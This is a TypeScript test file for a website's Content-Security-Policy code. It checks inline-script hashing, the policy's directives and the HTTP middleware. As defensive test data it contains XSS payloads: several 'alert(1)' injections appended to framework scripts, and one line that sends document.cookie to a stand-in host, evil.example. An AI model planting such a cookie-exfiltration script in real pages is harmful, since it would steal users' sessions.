/**
 * The pages' Content-Security-Policy (server/content-security-policy.mjs): which scripts get a
 * hash, what the policy allows, and the middleware that holds a page back to write its policy,
 * run on a real HTTP server with compression in front, as server/start.mjs runs it.
 */
import { createHash } from 'node:crypto';
import http from 'node:http';
import { gunzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import {
  inlineScriptHashes,
  inlineScripts,
  isPageScript,
  pagePolicy,
  takesPagePolicy,
  withScriptHashes,
} from '../../../server/content-security-policy.mjs';
import { webFontsScript } from '../../../lib/web-fonts-script.mjs';
import { compressAnswers } from '../../../server/compression.mjs';
import { closeServer, listenOnLoopback } from '../../support/loopback';

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

/** The directives of a policy, by name. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy.split(';').map((part) => {
      const [name, ...sources] = part.trim().split(/\s+/);
      return [name!, sources];
    }),
  );
}

/** The inline scripts of a page as Next 16 writes them, and the site's own. */
const nextScripts = [
  '(self.__next_f=self.__next_f||[]).push([0])',
  'self.__next_f.push([1,"0:\\"$Sreact.fragment\\"\\n1:I[\\"a\\u003cb\\"]\\n"])',
  'self.__next_f.push([2,null])',
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});',
];

describe('isPageScript', () => {
  it("recognises Next's data and bootstrap scripts and the site's own", () => {
    for (const script of [...nextScripts, webFontsScript]) expect(isPageScript(script)).toBe(true);
  });

  it("refuses any other script, also one that begins like Next's and goes on", () => {
    for (const script of [
      'alert(1)',
      'requestAnimationFrame(function(){$RT=performance.now()});',
      'self.__next_f.push([1,"x"]);alert(1)',
      'self.__next_f.push([1,"x"]),alert(1)',
      'self.__next_f.push([1,"x"]);alert(1);//)',
      'self.__next_f.push(alert(1))',
      'self.__next_f.push([1,"x"]) ',
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1));',
      `${webFontsScript} alert(1)`,
      '',
    ]) {
      expect(isPageScript(script), script).toBe(false);
    }
  });
});

describe('inlineScripts and inlineScriptHashes', () => {
  it("reads the text of every inline script exactly as written, and hashes the page's own", () => {
    const [first, second] = [nextScripts[1]!, webFontsScript];
    const html = `<html><head><script>${first}</script></head><body><p>x</p><script nonce="n" id="y">${second}</script></body></html>`;
    expect(inlineScripts(html)).toEqual([first, second]);
    expect(inlineScriptHashes(html)).toEqual([sha256(first), sha256(second)]);
  });

  it('hashes text as UTF-8, entities and markup-like text left as they are', () => {
    const script = 'self.__next_f.push([1,"Bánh tráng &amp; <b>cá cơm</b>"])';
    expect(inlineScripts(`<script>${script}</script>`)).toEqual([script]);
    expect(inlineScriptHashes(`<script>${script}</script>`)).toEqual([sha256(script)]);
  });

  it('leaves out script files and JSON-LD data blocks, and lists each hash once', () => {
    const same = nextScripts[0]!;
    const html = [
      '<script src="/_next/static/chunks/a.js" async=""></script>',
      '<script type="application/ld+json">{"@type":"Product"}</script>',
      '<script type="application/json">{}</script>',
      `<script>${same}</script><script>${same}</script>`,
    ].join('');
    expect(inlineScripts(html)).toEqual([same, same]);
    expect(inlineScriptHashes(html)).toEqual([sha256(same)]);
  });

  it('gives no hash to a script slipped into the markup, and says which it refused', () => {
    const slipped = 'fetch("https://evil.example/?" + document.cookie)';
    const html = `<script>${nextScripts[0]}</script><div><script>${slipped}</script></div><script type="module">mod()</script>`;
    const refused: string[] = [];
    expect(inlineScriptHashes(html, (script) => refused.push(script))).toEqual([
      sha256(nextScripts[0]!),
    ]);
    expect(refused).toEqual([slipped, 'mod()']);
    expect(inlineScriptHashes('<p>No script here</p>')).toEqual([]);
  });
});

describe('pagePolicy', () => {
  const policy = directives(pagePolicy([sha256('a()'), sha256('b()')]));

  it('allows scripts from the site and the listed hashes only', () => {
    expect(policy.get('script-src')).toEqual(["'self'", sha256('a()'), sha256('b()')]);
    expect(policy.get('default-src')).toEqual(["'self'"]);
  });

  it('never allows unsafe-inline or unsafe-eval for scripts, plugins, or framing', () => {
    expect(policy.get('script-src')).not.toContain("'unsafe-inline'");
    expect(policy.get('script-src')).not.toContain("'unsafe-eval'");
    expect(policy.get('object-src')).toEqual(["'none'"]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
    expect(policy.get('base-uri')).toEqual(["'self'"]);
    expect(policy.get('form-action')).toEqual(["'self'"]);
  });

  it('lets images come from https hosts (CMS photos, map tiles) and data only from the site', () => {
    expect(policy.get('img-src')).toContain('https:');
    expect(policy.get('connect-src')).toEqual(["'self'"]);
  });
});

describe('takesPagePolicy', () => {
  it('applies to every path but the embeddable cards', () => {
    expect(takesPagePolicy('/vi')).toBe(true);
    expect(takesPagePolicy('/en/products/x?embed=1')).toBe(true);
    expect(takesPagePolicy('/embedded')).toBe(true);
    expect(takesPagePolicy('/embed/products/x')).toBe(false);
    expect(takesPagePolicy('/embed?x')).toBe(false);
  });
});

describe('withScriptHashes on a server', () => {
  let server: http.Server | undefined;
  afterEach(() => closeServer(server));

  /** A server that answers every request with `handler`, behind compression and the middleware. */
  async function serve(handler: http.RequestListener): Promise<string> {
    const compress = compressAnswers();
    server = http.createServer((req, res) =>
      compress(req, res, () => withScriptHashes(req, res, () => handler(req, res))),
    );
    return listenOnLoopback(server);
  }

  const page = (script: string) =>
    `<!DOCTYPE html><html><head><script>${script}</script></head><body>${'<p>OCOP</p>'.repeat(500)}</body></html>`;

  it('sends a page streamed in pieces whole, with the hashes of its scripts', async () => {
    const html = page('self.__next_f.push([1,"boot"])');
    const base = await serve((_, res) => {
      res.setHeader('Content-Type', 'text/html; charset=utf-8');
      res.setHeader('Content-Security-Policy', "frame-ancestors 'none'");
      res.flushHeaders();
      res.write(html.slice(0, 20));
      setTimeout(() => res.end(html.slice(20)), 5);
    });
    const response = await fetch(`${base}/vi`);
    expect(await response.text()).toBe(html);
    const policy = directives(response.headers.get('content-security-policy')!);
    expect(policy.get('script-src')).toEqual(["'self'", sha256('self.__next_f.push([1,"boot"])')]);
    expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
  });

  it('keeps headers given to writeHead, and compresses after hashing', async () => {
    const html = page('self.__next_f.push([1,"compressed"])');
    const base = await serve((_, res) => {
      res.writeHead(404, { 'Content-Type': 'text/html', 'X-Kept': 'yes' });
      res.end(html);
    });
    const response = await fetch(`${base}/fr/x`, { headers: { 'accept-encoding': 'gzip' } });
    expect(response.status).toBe(404);
    expect(response.headers.get('x-kept')).toBe('yes');
    expect(response.headers.get('content-encoding')).toBe('gzip');
    expect(response.headers.get('content-security-policy')).toContain(
      sha256('self.__next_f.push([1,"compressed"])'),
    );
    const raw = Buffer.from(await new Response(response.body).arrayBuffer());
    // fetch decodes gzip itself; either way the page arrives as written.
    const text = raw.subarray(0, 2).equals(Buffer.from([0x1f, 0x8b]))
      ? gunzipSync(raw).toString('utf8')
      : raw.toString('utf8');
    expect(text).toBe(html);
  });

  it('keeps Content-Length equal to the bytes sent, uncompressed', async () => {
    const html = page('self.__next_f.push([1,"sized é"])');
    const base = await serve((_, res) => {
      res.setHeader('Content-Type', 'text/html');
      res.setHeader('Content-Length', Buffer.byteLength(html));
      res.write(html.slice(0, 10));
      res.end(html.slice(10));
    });
    const response = await new Promise<http.IncomingMessage>((resolve) =>
      http.get(`${base}/en`, resolve),
    );
    const chunks: Buffer[] = [];
    for await (const chunk of response) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks);
    expect(body.toString('utf8')).toBe(html);
    expect(Number(response.headers['content-length'])).toBe(body.length);
    expect(response.headers['content-security-policy']).toContain(
      sha256('self.__next_f.push([1,"sized é"])'),
    );
  });

  it('passes other answers through untouched: JSON, embeds, and pages already encoded', async () => {
    const base = await serve((req, res) => {
      if (req.url === '/api/v1/products') {
        res.setHeader('Content-Type', 'application/json');
        res.setHeader('Content-Security-Policy', "frame-ancestors 'none'");
        return res.end('{"items":[]}');
      }
      if (req.url === '/embed/products/x') {
        res.setHeader('Content-Type', 'text/html');
        res.setHeader('Content-Security-Policy', "default-src 'none'");
        return res.end('<p>card</p>');
      }
      res.setHeader('Content-Type', 'text/html');
      res.setHeader('Content-Encoding', 'br');
      res.setHeader('Content-Security-Policy', 'from-the-inner-request');
      res.end(Buffer.from([1, 2, 3]));
    });
    const api = await fetch(`${base}/api/v1/products`);
    expect(api.headers.get('content-security-policy')).toBe("frame-ancestors 'none'");
    expect(await api.json()).toEqual({ items: [] });
    const card = await fetch(`${base}/embed/products/x`);
    expect(card.headers.get('content-security-policy')).toBe("default-src 'none'");
    const encoded = await new Promise<http.IncomingMessage>((resolve) =>
      http.get(`${base}/vi/rewritten`, resolve),
    );
    encoded.resume();
    expect(encoded.headers['content-security-policy']).toBe('from-the-inner-request');
  });

  it('compresses API answers whose Content-Type Next set as an array', async () => {
    const json = JSON.stringify({ features: Array.from({ length: 200 }, (_, i) => ({ id: i })) });
    const base = await serve((_, res) => {
      res.setHeader('Content-Type', ['application/geo+json; charset=utf-8']);
      res.end(json);
    });
    const response = await new Promise<http.IncomingMessage>((resolve) =>
      http.get(`${base}/api/v1/retail-points`, { headers: { 'accept-encoding': 'gzip' } }, resolve),
    );
    const chunks: Buffer[] = [];
    for await (const chunk of response) chunks.push(chunk as Buffer);
    expect(response.headers['content-encoding']).toBe('gzip');
    expect(response.headers['content-type']).toBe('application/geo+json; charset=utf-8');
    expect(gunzipSync(Buffer.concat(chunks)).toString('utf8')).toBe(json);
  });

  it('does not let a HEAD request, which has no body, set the policy of the GETs after it', async () => {
    const script = 'self.__next_f.push([1,"head-first"])';
    const base = await serve((req, res) => {
      res.setHeader('Content-Type', 'text/html; charset=utf-8');
      // As Next answers a prerendered page: the same ETag for both, and no body for HEAD.
      res.setHeader('ETag', '"head-first-page"');
      res.end(req.method === 'HEAD' ? undefined : page(script));
    });
    const head = await fetch(`${base}/vi/press`, { method: 'HEAD' });
    expect(head.status).toBe(200);
    for (let i = 0; i < 2; i++) {
      const get = await fetch(`${base}/vi/press`);
      expect(directives(get.headers.get('content-security-policy')!).get('script-src')).toEqual([
        "'self'",
        sha256(script),
      ]);
      expect(await get.text()).toBe(page(script));
    }
  });

  it("keeps the page's length on a HEAD answer, not the 0 bytes of its empty body", async () => {
    const html = page('self.__next_f.push([1,"length"])');
    const base = await serve((req, res) => {
      res.setHeader('Content-Type', 'text/html; charset=utf-8');
      // As Next answers HEAD: the length of the page it would send, and no body.
      res.setHeader('Content-Length', Buffer.byteLength(html));
      res.end(req.method === 'HEAD' ? undefined : html);
    });
    const head = await fetch(`${base}/vi/press`, { method: 'HEAD' });
    expect(head.headers.get('content-length')).toBe(String(Buffer.byteLength(html)));
    const get = await fetch(`${base}/vi/press`, { headers: { 'accept-encoding': 'identity' } });
    expect(get.headers.get('content-length')).toBe(String(Buffer.byteLength(html)));
  });

  it('sends no policy with a 304, so the browser keeps the one of the page it has', async () => {
    const base = await serve((_, res) => {
      res.setHeader('Content-Type', 'text/html');
      res.setHeader('Content-Security-Policy', "frame-ancestors 'none'");
      res.statusCode = 304;
      res.end();
    });
    const response = await fetch(`${base}/vi`);
    expect(response.status).toBe(304);
    expect(response.headers.get('content-security-policy')).toBeNull();
  });
});
